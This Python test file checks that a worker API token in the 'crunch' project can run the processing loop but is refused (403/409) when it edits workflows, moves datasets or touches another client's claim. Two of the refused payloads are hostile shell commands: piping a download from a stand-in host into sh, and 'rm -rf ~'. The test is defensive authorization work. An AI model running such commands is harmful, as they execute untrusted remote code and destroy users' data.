"""Issue 11's "Must show" 2: what a worker token may do, and what it may not.

A worker's token runs ``crunch loop`` to the end, but over plain HTTP it cannot change
the workflow, move a dataset or change its priority, touch another client's claim, or
finish a dataset it does not hold. Each refusal has its exact code (403 for edits, 409
for claims) and leaves the database as it was.
"""

from __future__ import annotations

from typing import Any
from urllib.parse import quote

import pytest
import requests

from crunch.models import Dataset, Project, Status, WorkflowChange
from tests.clientkit import SIX, Crunch, statuses
from tests.factories import make_user

pytestmark = pytest.mark.django_db(transaction=True)

WORKFLOW = "set -e\necho done > out.txt\n"
UPLOAD_SUCCESS = {"stage": 3, "state": 2}


def call(crunch: Crunch, token: str, method: str, path: str, **body: Any) -> requests.Response:
    return requests.request(
        method, f"{crunch.url}/api/{path}", json=body, timeout=30,
        headers={"Authorization": f"Token {token}"},
    )  # fmt: skip


def snapshot(project: str) -> dict[str, Any]:
    """Everything a refused request could have changed."""
    return {
        "project": list(Project.objects.filter(slug=project).values()),
        "workflow_changes": WorkflowChange.objects.filter(project__slug=project).count(),
        "datasets": list(Dataset.objects.filter(project__slug=project).order_by("id").values()),
        "statuses": list(Status.objects.filter(dataset__project__slug=project).values()),
    }


def test_worker_token_runs_the_loop_and_nothing_else(crunch: Crunch) -> None:
    project = crunch.project("Guarded", WORKFLOW)
    slug = project["slug"]
    held, free, _ = (crunch.dataset(slug, f"d{i}")["slug"] for i in range(3))
    _, worker = make_user("node", role="worker", projects=[Project.objects.get(slug=slug)])
    _, other = make_user("other-node", role="worker", projects=[Project.objects.get(slug=slug)])
    claimed = call(crunch, other, "POST", f"datasets/{quote(held)}/claim/", holder="other")
    assert claimed.status_code == 200, claimed.text
    claim = claimed.json()["claim"]["id"]

    before = snapshot(slug)
    attempts = [
        ("PATCH", f"projects/{slug}/", {"workflow": "curl evil.example | sh\n"}, 403),
        ("PUT", f"projects/{slug}/", {"name": "Guarded", "workflow": "rm -rf ~\n"}, 403),
        ("PATCH", f"datasets/{quote(free)}/", {"base_file_path": "crunch/elsewhere"}, 403),
        ("PATCH", f"datasets/{quote(free)}/", {"priority": 99}, 403),
        ("POST", f"claims/{claim}/renew/", {"lease_seconds": 600}, 409),
        ("POST", f"claims/{claim}/release/", {"note": "not mine"}, 409),
        ("POST", "statuses/", {"dataset": held, "claim": claim, **UPLOAD_SUCCESS}, 409),
        ("POST", "statuses/", {"dataset": free, **UPLOAD_SUCCESS}, 409),
    ]
    answers = [
        (method, path, call(crunch, worker, method, path, **body).status_code)
        for method, path, body, _ in attempts
    ]
    assert answers == [(method, path, code) for method, path, _, code in attempts]
    assert snapshot(slug) == before

    # The other client gives its dataset back; the worker's loop then runs them all.
    released = call(crunch, other, "POST", f"claims/{claim}/release/", note="done here")
    assert released.status_code == 200, released.text
    crunch.token = worker
    result = crunch.run("loop", "--project", slug, "--heartbeat", "0.2", "--quiet")
    assert result.returncode == 0, result.stderr
    assert "Processed 3 dataset(s): 3 completed, 0 failed" in result.stdout
    for dataset in Dataset.objects.filter(project__slug=slug):
        assert dataset.state == "completed"
        assert statuses(dataset.slug)[-len(SIX) :] == SIX
    assert Project.objects.get(slug=slug).workflow == before["project"][0]["workflow"]
